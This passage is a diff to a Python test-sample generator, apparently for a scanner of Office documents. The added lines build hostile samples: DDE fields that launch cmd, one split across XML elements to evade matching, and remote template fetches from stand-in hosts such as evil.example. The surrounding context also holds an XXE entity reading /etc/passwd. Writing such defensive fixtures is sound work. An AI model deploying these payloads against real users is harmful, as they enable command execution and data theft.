@@ -259,6 +259,19 @@ def office_files() -> Iterator[Sample]:
             yield f"{kind} that fetches: {sort}", name, made(**{rels: fetched})
         dde = "<w:instrText>DDEAUTO cmd</w:instrText><ddeLink/>"
         yield f"{kind} that starts a program by DDE", name, made(body=dde)
+        cut = "<w:instrText>PAGE</w:instrText><w:instrText>DD</w:instrText><q:instrText>EAUTO cmd<"
+        yield f"{kind} with a field cut in pieces", name, made(body=f"{cut}/q:instrText>")
+        simple = '<w:fldSimple w:instr="DDE cmd"/>'
+        yield f"{kind} with a simple field", name, made(body=simple)
+        yield f"{kind} with a field in a part of another name", name, made(a__doc=simple.encode())
+        for place in (
+            "https://evil.example/x.dotm",
+            r"\\evil\x.dotm",
+            "file:///\\\\evil/x",
+            "//evil/x",
+        ):
+            fetched = relationships(("attachedTemplate", place, "External"))
+            yield f"{kind} that fetches {place}", name, made(**{rels: fetched})
         entity = (
             b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
         )
